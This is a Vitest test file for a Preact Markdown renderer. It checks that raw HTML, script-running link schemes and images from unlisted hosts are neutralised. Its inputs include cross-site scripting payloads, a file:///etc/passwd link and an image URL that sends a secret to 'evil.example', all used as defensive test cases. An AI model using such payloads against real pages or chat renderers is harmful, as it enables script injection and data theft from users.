/** @jsxImportSource preact */
import { render } from 'preact';
import { expect, test, vi } from 'vitest';
import { LONG_ANSWER } from '../../demo/texts.ts';
import { en } from '../../locales/en.ts';
import { actionsWith } from '../../testing/actions.ts';
import { PanelProvider } from '../panel-context.ts';
import { Markdown } from './markdown.tsx';

const openDeeplink = vi.fn();

function show(text: string, imageHosts: string[] = []): HTMLElement {
  const root = document.createElement('div');
  const panel = {
    texts: en,
    options: { api: { url: '/', domainKey: '' } },
    actions: actionsWith({ openDeeplink }),
    maxLength: null,
    language: 'en',
    headingLevel: 3,
    imageHosts,
  };
  render(
    <PanelProvider value={panel}>
      <Markdown text={text} />
    </PanelProvider>,
    root,
  );
  return root;
}

const links = (root: HTMLElement) => [...root.querySelectorAll('a')].map((link) => link.getAttribute('href'));

test.each([
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  'text <b onclick="x()">bold</b>',
  '<svg><a href="javascript:x">y</a></svg>',
])('raw HTML is text: %s', (html) => {
  const root = show(html);
  expect(root.querySelector('img, script, b, svg, [onclick], [onerror]')).toBeNull();
  expect(root.textContent).toContain(html);
});

test.each([
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,y)',
  '[x](vbscript:y)',
  '[x](file:///etc/passwd)',
  '![x](javascript:alert(1))',
])('an address that could run something is no link: %s', (text) => {
  const root = show(text);
  expect(links(root)).toEqual([]);
  expect(root.querySelector('img')).toBeNull();
  expect(root.textContent).toContain('x');
});

test('links open elsewhere and give nothing away', () => {
  const [link] = show('[a](https://example.com/?a=1&amp;b=2)').querySelectorAll('a');
  expect(link?.getAttribute('href')).toBe('https://example.com/?a=1&b=2');
  expect(link?.rel).toBe('noopener noreferrer nofollow');
  expect(link?.target).toBe('_blank');
  expect(links(show('mailto:a@b.c [t](tel:+1) https://x.y'))).toEqual([
    'mailto:a@b.c',
    'tel:+1',
    'https://x.y/',
  ]);
});

test('a deep link goes to the host, not to the browser', () => {
  const link = show('[open](chatkit-link://open_task?id=7)').querySelector('a');
  const event = new MouseEvent('click', { bubbles: true, cancelable: true });
  link?.dispatchEvent(event);
  expect(event.defaultPrevented).toBe(true);
  expect(openDeeplink).toHaveBeenCalledWith({ name: 'open_task', data: { id: '7' } });
});

test('an image is loaded from the page, from data, or from an allowed host, and is a link otherwise', () => {
  expect(show('![a](/logo.png)').querySelector('img')?.alt).toBe('a');
  expect(show('![a](data:image/png;base64,AA==)').querySelector('img')).not.toBeNull();
  expect(show('![a](data:image/svg+xml,<svg/>)').querySelector('img')).toBeNull();
  expect(show('![a](https://cdn.example/x.png)', ['cdn.example']).querySelector('img')).not.toBeNull();
  const elsewhere = show('![chart](https://evil.example/?q=secret)');
  expect(elsewhere.querySelector('img')).toBeNull();
  expect(links(elsewhere)).toEqual(['https://evil.example/?q=secret']);
});

test('a long text becomes lists, code, tables and quotes', () => {
  const root = show(LONG_ANSWER);
  const count = (selector: string) => root.querySelectorAll(selector).length;
  expect([count('ol'), count('pre'), count('table'), count('blockquote'), count('hr')]).toEqual([
    1, 1, 1, 1, 1,
  ]);
  expect(root.querySelector('pre')?.textContent).toContain('"title": "Buy milk"');
  expect(root.querySelector('.code-language')?.textContent).toBe('json');
  expect([...root.querySelectorAll('input')].map((box) => box.checked)).toEqual([true, false]);
  expect(root.querySelectorAll('td')[2]?.dataset.align).toBe('right');
});

test('character references read as their characters, in code as they are written', () => {
  expect(show('a &amp; b &#x1F600; &lt;c&gt; &unknown; &constructor;').textContent).toBe(
    'a & b 😀 <c> &unknown; &constructor;',
  );
  expect(show('`&amp;`').textContent).toBe('&amp;');
});

test('nothing in any markdown text throws', () => {
  for (const text of [
    '',
    '[',
    '**',
    '```',
    '| a |\n|',
    '- ',
    '[x]: y',
    '<',
    '&#0;&#xD800;',
    '\\',
    '![](',
    '[a][b]',
  ]) {
    expect(() => show(text)).not.toThrow();
  }
});
